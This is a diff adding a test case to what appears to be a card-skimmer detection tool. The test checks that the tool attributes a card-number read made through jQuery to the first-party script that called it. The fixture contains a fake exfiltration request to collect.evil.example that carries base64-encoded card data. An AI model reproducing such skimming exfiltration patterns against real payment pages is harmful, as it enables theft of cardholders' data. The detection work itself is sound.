@@ -157,4 +157,16 @@ describe('canaryFindings', () => {
     expect(findings[0]!.evidence).toMatchObject({ storage: 'localStorage', key: '_ga_cache', encoding: 'base64>plain' });
     expect(findings[0]!).toMatchObject({ script: { sha256: 'c'.repeat(64) }, line: 7 });
   });
+
+  it('names the skimmer below a library frame when the card was read through jQuery', () => {
+    const a = artifacts([req({ url: `https://collect.evil.example/c?d=${b64(json)}`, thirdParty: true })]);
+    const jq = { url: 'https://pay.city.example/jquery.min.js', sha256: 'd'.repeat(64), functionName: 'val', line: 2, column: 100 };
+    const own = { url: 'https://pay.city.example/app.js', sha256: 'a'.repeat(64), functionName: 'collect', line: 30, column: 9 };
+    a.fields = [
+      { field: 'card-number', selector: '#cc', how: 'value', reader: { scriptUrl: jq.url, sha256: jq.sha256, line: 2, column: 100, stack: [jq, { ...jq, line: 2, column: 7 }] }, frameUrl: null, time: 4400 },
+      { field: 'card-number', selector: '#cc', how: 'value', reader: { scriptUrl: jq.url, sha256: jq.sha256, line: 2, column: 100, stack: [jq, own] }, frameUrl: null, time: 4500 },
+    ];
+    const { findings } = canaryFindings(a, []);
+    expect(findings[0]!.evidence.reader).toMatchObject({ url: own.url, sha256: own.sha256, line: 30, how: 'value' });
+  });
 });
